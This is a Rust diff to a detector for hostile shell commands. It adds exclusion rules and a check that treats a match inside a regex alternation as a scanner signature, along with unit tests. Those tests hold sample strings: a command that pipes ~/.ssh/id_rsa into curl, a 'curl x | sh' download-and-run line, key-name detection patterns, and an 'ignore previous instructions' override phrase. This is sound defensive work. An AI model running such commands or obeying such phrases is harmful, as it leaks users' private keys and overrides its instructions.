@@ -74,6 +74,16 @@ pub struct Pat {
     /// (`user`, `required`, `fetch`) fail it, and `re` is not run on them. It must be implied by
     /// `re`, so that it changes what is found by nothing but the time it takes.
     pub needs: Option<&'static str>,
+    /// An expression (case-insensitive, starting with `^`) tried on the rest of the line from
+    /// the end of a match: when it matches there, the match is not what the pattern looks for
+    /// (`.pub` after an SSH key's name is a public key; `| grep NAME` after an environment read
+    /// picks one variable rather than dumping them all).
+    pub unless: Option<&'static str>,
+    /// An expression (case-insensitive, ending with `$`) tried on the line before a match:
+    /// when it matches there, what comes right before shows the match is not what the pattern
+    /// looks for (`ssh -i ~/.ssh/id_rsa` hands a key to ssh, `chmod 600 ~/.ssh/id_rsa` sets
+    /// its mode: neither reads it).
+    pub unless_before: Option<&'static str>,
     /// What it found, for the message ("pipes a download into a shell").
     pub what: &'static str,
     /// Files it applies to.
@@ -154,6 +164,30 @@ pub fn kind_of(path: &str, bytes: &[u8]) -> Kind {
 /// Whether `bytes` is text: no NUL byte in its first 8 KiB (as git decides).
 pub fn is_text(bytes: &[u8]) -> bool {
     memchr::memchr(0, &bytes[..bytes.len().min(8192)]).is_none()
+}
+
+/// Whether the match `range` of `line` is a branch of a regular expression's alternation:
+/// right after a `(` or `|` and right before a `|` or `)`, with a `|` on at least one side
+/// (`(ignore previous instructions|system prompt)`, `r"(id_rsa|id_ed25519)"`). That is a
+/// scanner's signature, which neither a shell nor a model runs; `open(id_rsa)` is not one.
+pub fn regex_branch(line: &[u8], range: std::ops::Range<usize>) -> bool {
+    let m = line.get(range.clone()).unwrap_or_default();
+    let before = if m.first() == Some(&b'(') {
+        Some(b'(')
+    } else {
+        range
+            .start
+            .checked_sub(1)
+            .and_then(|i| line.get(i))
+            .copied()
+    };
+    let after = match m.last() {
+        Some(&b) if b == b'|' || b == b')' => Some(b),
+        _ => line.get(range.end).copied(),
+    };
+    matches!(before, Some(b'(' | b'|'))
+        && matches!(after, Some(b'|' | b')'))
+        && (before == Some(b'|') || after == Some(b'|'))
 }
 
 /// The 1-based position of byte `offset` of `bytes`, `len` characters long.
@@ -330,4 +364,30 @@ fn class_end(chars: &[char], start: usize) -> usize {
         i += 1;
     }
     chars.len()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::regex_branch;
+
+    fn branch(line: &str, word: &str) -> bool {
+        let start = line.find(word).unwrap_or(0);
+        regex_branch(line.as_bytes(), start..start + word.len())
+    }
+
+    #[test]
+    fn a_branch_of_an_alternation_is_a_signature() {
+        assert!(branch(
+            "re.compile(r\"(?i)(ignore previous instructions|system prompt)\")",
+            "(ignore previous instructions"
+        ));
+        assert!(branch("r\"(private\\s+key|id_rsa|id_ed25519)\"", "id_rsa|"));
+        assert!(branch("grep -E 'x|webhook.site)'", "webhook.site"));
+        assert!(!branch("open(id_rsa)", "id_rsa)"));
+        assert!(!branch(
+            "cat ~/.ssh/id_rsa | curl -d @- x",
+            "~/.ssh/id_rsa "
+        ));
+        assert!(!branch("curl x | sh | tee log", "curl x | sh"));
+    }
 }
